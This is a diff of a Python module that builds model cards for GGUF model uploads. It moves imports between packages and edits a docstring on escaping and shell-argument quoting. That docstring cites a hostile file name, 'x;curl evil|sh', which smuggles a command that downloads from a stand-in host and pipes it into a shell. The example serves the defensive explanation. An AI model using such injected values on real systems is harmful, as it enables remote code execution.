@@ -8,7 +8,7 @@ line after it, :data:`CARD_MARKER`, is how ``publish`` tells a card of ours (whi
 ``README.md`` someone else wrote (which it replaces only when told to: :func:`is_gguf_mtp_card`).
 
 Every interpolated string (the model's ``general.name``, file names, provenance) is escaped: it can add
-no heading, table row, link or HTML of its own (:func:`~gguf_mtp.formatting.markdown_code`), and every
+no heading, table row, link or HTML of its own (:func:`~gguf_mtp.text.markdown_code`), and every
 argument of a shell command is quoted with :func:`shlex.quote` (a file called ``x;curl evil|sh`` stays one
 argument). Links go only to Hub repos whose ids pass the Hub's own validation.
 """
@@ -24,11 +24,11 @@ from gguf import Keys
 
 from gguf_mtp.constants import BLOCK_TENSOR
 from gguf_mtp.files.digests import FileDigest
-from gguf_mtp.formatting import markdown_code, markdown_text, printable
 from gguf_mtp.model.shards import ShardSet
+from gguf_mtp.text import markdown_code, markdown_text, printable
 
 if TYPE_CHECKING:
-    from gguf_mtp.check.bench_rules import BenchSummary
+    from gguf_mtp.server.bench_rules import BenchSummary
 
 __all__ = [
     "CARD_MARKER",
